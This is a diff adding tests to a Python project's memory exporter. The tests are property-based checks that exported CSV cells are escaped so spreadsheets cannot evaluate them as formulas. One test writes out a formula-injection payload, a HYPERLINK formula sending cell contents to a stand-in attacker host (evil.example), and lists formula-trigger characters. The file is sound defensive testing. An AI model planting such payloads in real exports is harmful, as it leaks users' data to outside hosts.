@@ -9,12 +9,15 @@ from datetime import datetime
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from long_term_memory.core.types import Scope, Shown, Window
 from long_term_memory.engine.bank import Bank
 from long_term_memory.engine.engine import Engine
 from long_term_memory.errors import InvalidInput, StoreError
 from long_term_memory.exporters.run import FORMATS, write
+from long_term_memory.exporters.table import cell_text, plain_cell
 
 LOCAL = datetime(2026, 11, 21, 10, 5).astimezone()
 
@@ -71,6 +74,46 @@ def test_a_table_has_a_row_for_each_utterance_and_note(
     assert (rows[1]["edited"], rows[1]["position"]) == ("yes", "1")
     assert rows[3]["hidden"] == "yes"
     assert datetime.fromisoformat(rows[1]["time"]) == LOCAL
+
+
+BEFORE = st.text(" \t\r\n'\"\u00a0\u200b\ufeff\u201c`", max_size=4)
+SIGNS = st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20\t\r\u2212")
+
+
+@given(before=BEFORE, sign=SIGNS, after=st.text(max_size=8))
+def test_no_cell_is_a_formula_and_its_text_is_kept(
+    before: str, sign: str, after: str
+) -> None:
+    text = before + sign + after
+
+    cell = plain_cell(text)
+
+    assert cell == f"'{text}"
+    assert cell_text(cell) == text
+
+
+@given(st.text())
+def test_a_cell_gives_back_the_exact_text(text: str) -> None:
+    assert cell_text(plain_cell(text)) == text
+    assert not plain_cell(text).startswith(tuple("=+-@\t\r"))
+
+
+def test_every_column_with_words_of_others_is_kept_from_being_computed(
+    engine: Engine, tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1)'
+    bank = engine.bank(Scope(user="default", character=evil))
+    said = Shown("assistant", evil, name=evil)
+    bank.chat(evil, host="webui").observe(Window(messages=(said,), complete=True))
+    bank.memories.add("-2+3 is one")
+
+    path = write(bank, "csv", tmp_path / "evil.csv").path
+
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert cells.count(f"'{evil}") == 3
+    assert "'-2+3 is one" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
 
 
 @pytest.mark.parametrize("format", FORMATS)
